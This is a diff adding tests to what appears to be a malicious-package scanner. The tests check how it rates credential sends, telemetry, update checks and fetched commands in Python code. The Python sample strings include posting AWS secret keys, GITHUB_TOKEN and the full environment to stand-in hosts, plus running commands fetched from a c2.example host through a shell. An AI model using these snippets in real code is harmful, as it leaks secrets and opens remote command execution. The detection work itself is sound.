@@ -225,6 +225,13 @@ describe('env-exfil: cloud credentials sent out', () => {
       '    requests.post("https://x.example/zz", json={"k": cd.access_key, "s": cd.secret_key})\nt()\n';
     expect(hits(source).map((h) => [h.line, h.severity])).toEqual([[4, 'critical']]);
   });
+  it('leaves keys that sign a request (SigV4) unless the send names them', () => {
+    const signs =
+      'import boto3, requests\nfrom botocore.auth import SigV4Auth\ndef call(url, req):\n    creds = boto3.Session().get_credentials()\n' +
+      '    SigV4Auth(creds, "execute-api", "eu-west-1").add_auth(req)\n    return requests.get(url, headers=dict(req.headers))\n';
+    expect(hits(signs)).toEqual([]);
+    expect(hits(signs.replace('headers=dict(req.headers)', 'json={"s": creds.secret_key}'))).toHaveLength(1);
+  });
   it('does not fire on credentials read and no send in the same body', () => {
     expect(hits('import boto3\ndef t():\n    return boto3.Session().get_credentials()\n')).toEqual([]);
   });
@@ -246,6 +253,49 @@ describe('env-exfil: cloud credentials sent out', () => {
     const words =
       'import os, requests\ndef run(name):\n    env = os.environ.copy()\n    requests.post("https://api.example/v", json={"env": name, "note": "env"})\n';
     expect(hits(words)).toEqual([]);
+  });
+});
+
+describe('usage telemetry and update checks', () => {
+  const hits = (source: string, rule: string) =>
+    runRules(parsePython(source, 'pkg/__init__.py'))
+      .filter((e) => e.rule === rule)
+      .map((e) => [e.line, e.severity]);
+  const telemetry = (check: string) =>
+    `import os, platform, socket, requests\ndef send_event(name):\n    if os.environ.get(${check}):\n        return\n    payload = {"os": platform.system(), "host": socket.gethostname()}\n    requests.post("https://t.example/e", json=payload)\n`;
+  it('keeps a host name sent by a function the user can switch off at low, and any other switch at medium', () => {
+    expect(hits(telemetry('"P_NO_TELEMETRY"'), 'env-exfil')).toEqual([[6, 'low']]);
+    expect(hits(telemetry('"DO_NOT_TRACK"'), 'env-exfil')).toEqual([[6, 'low']]);
+    expect(hits(telemetry('"P_DEBUG"'), 'env-exfil')).toEqual([[6, 'medium']]);
+  });
+  it('does not excuse the same send at import time, nor the environment or a secret behind a switch', () => {
+    expect(hits(`${telemetry('"P_NO_TELEMETRY"')}send_event("start")\n`, 'env-exfil')).toEqual([[6, 'high']]);
+    const secret =
+      'import os, requests\ndef send():\n    if os.environ.get("NO_TELEMETRY"):\n        return\n    requests.post("https://t.example/e", json={"t": os.getenv("GITHUB_TOKEN")})\n';
+    expect(hits(secret, 'env-exfil')).toEqual([[5, 'medium']]);
+    const env =
+      'import os, requests\ndef send():\n    if os.environ.get("NO_TELEMETRY"):\n        return\n    requests.post("https://t.example/e", json=dict(os.environ))\n';
+    expect(hits(env, 'env-exfil')).toEqual([[5, 'medium']]);
+  });
+  it("keeps a GET of PyPI's release list at import at low, and any other fetch at medium", () => {
+    expect(
+      hits('import requests\nv = requests.get("https://pypi.org/pypi/p/json").json()\n', 'network-access'),
+    ).toEqual([[2, 'low']]);
+    expect(
+      hits(
+        'import requests\nv = requests.get(f"https://pypi.org/pypi/{NAME}/json", timeout=2)\n',
+        'network-access',
+      ),
+    ).toEqual([[2, 'low']]);
+    expect(
+      hits(
+        'import requests\nv = requests.get("https://pypi.org.evil.example/pypi/p/json")\n',
+        'network-access',
+      ),
+    ).toEqual([[2, 'medium']]);
+    expect(
+      hits('import requests\nrequests.post("https://pypi.org/pypi/p/json", data=D)\n', 'network-access'),
+    ).toEqual([[2, 'medium']]);
   });
 });
 
@@ -525,5 +575,17 @@ describe('remote-command: a reply run as a command', () => {
     const same =
       'import os, base64, requests\ndef poll():\n    data = requests.get("https://c2.example/t").text\n    os.system(base64.b64decode(data))\n';
     expect(hits(same).map((h) => [h.line, h.severity])).toEqual([[4, 'critical']]);
+  });
+  it('leaves a fetched version handed to a program the code names, and not one handed to a shell', () => {
+    const updater =
+      'import subprocess, sys, requests\ndef update():\n    latest = requests.get("https://pypi.org/pypi/p/json").json()["info"]["version"]\n    subprocess.check_call([sys.executable, "-m", "pip", "install", f"p=={latest}"])\n';
+    expect(hits(updater)).toEqual([]);
+    const shell =
+      'import subprocess, requests\ndef poll():\n    cmd = requests.get("https://c2.example/t").text\n    subprocess.run(["bash", "-c", cmd])\n    subprocess.run(cmd, shell=True)\n    subprocess.Popen(cmd.split())\n';
+    expect(hits(shell).map((h) => [h.line, h.severity])).toEqual([
+      [4, 'high'],
+      [5, 'high'],
+      [6, 'high'],
+    ]);
   });
 });
